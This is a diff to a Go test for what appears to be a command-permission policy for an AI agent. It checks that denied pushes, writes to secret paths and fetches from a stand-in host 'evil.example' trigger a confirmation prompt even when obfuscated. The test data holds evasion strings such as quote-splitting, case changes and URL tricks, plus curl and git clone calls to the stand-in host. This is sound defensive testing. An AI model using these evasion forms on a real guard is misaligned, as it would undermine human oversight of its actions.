@@ -268,7 +268,7 @@ func TestAutoAsksAboutWhatMayBeDenied(t *testing.T) {
 	p := newPolicy(t, Rules{Mode: ModeAuto, Deny: []string{"Bash(git push *)", "Write(secret/**)", "Fetch(evil.example)"}})
 	for _, script := range []string{
 		"bash -c -- 'g\"\"it push'", "bash -c -x 'g\"\"it push'", "bash -c +x 'g\"\"it push'",
-		"curl EVIL.example", "curl evil.example.", "curl evil.example/x", "curl --url=http://evil.example/x", "git clone ssh://evil.example/x",
+		"GIT push", "/usr/bin/Git push origin", "curl EVIL.example", "curl evil.example.", "curl evil.example/x", "curl --url=http://evil.example/x", "git clone ssh://evil.example/x",
 		"git clone git@evil.example:x", "curl -Lhttps://a@evil.example:1/x", "echo x > SECRET/a", "tee Secret/a",
 	} {
 		if d := p.Decide(bash(t, script)); d.Effect != Ask || d.MayDeny == "" || d.MayDeny != d.Rule {
